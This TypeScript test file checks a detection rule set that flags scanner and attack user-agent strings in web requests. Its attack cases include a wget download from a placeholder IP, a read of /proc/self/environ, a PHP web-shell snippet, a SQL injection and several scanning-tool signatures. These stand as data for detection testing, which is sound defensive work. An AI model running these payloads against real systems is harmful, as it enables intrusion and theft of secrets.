import { SCANNER_USER_AGENTS } from '../../src/rules/scanner-user-agents.js'
import { isClean, request, testTwins } from './twins.js'
import { test } from 'node:test'

testTwins(SCANNER_USER_AGENTS.rules, (userAgent: string) => request('/', { userAgent }), [
  {
    id: 'agent-payload',
    attack: [
      'wget http://198.51.100.9/x -O /tmp/x',
      'cat /proc/self/environ',
      '<?php system($_GET[0]);',
      "1' or 1=1",
    ],
    ordinary: ['Wget/1.21', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)'],
  },
  {
    id: 'agent-attack-tool',
    attack: [
      'Mozilla/5.00 (Nikto/2.1.5)',
      'sqlmap/1.7#stable',
      'masscan/1.3',
      'Mozilla/5.0 zgrab/0.x',
      'Hello, World',
    ],
    ordinary: ['Mozilla/5.0 (compatible; Googlebot/2.1)', 'UniversalFeedParser/4.2'],
  },
  {
    id: 'agent-survey',
    attack: [
      'Mozilla/5.0 (compatible; CensysInspect/1.1)',
      'Expanse, a Palo Alto Networks company',
    ],
    ordinary: ['Mozilla/5.0 (compatible; bingbot/2.0)'],
  },
  {
    id: 'agent-library',
    attack: ['python-requests/2.28.1', 'Go-http-client/1.1', 'curl/8.5.0'],
    ordinary: ['Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1)'],
  },
  { id: 'agent-empty', attack: ['', '-'], ordinary: ['Mozilla/5.0'] },
])

test('a source that logs no user agent is not taken for a client without one', () => {
  const { detail, ...event } = request('/')
  const { userAgent: _, ...rest } = detail
  isClean({ ...event, detail: rest })
})
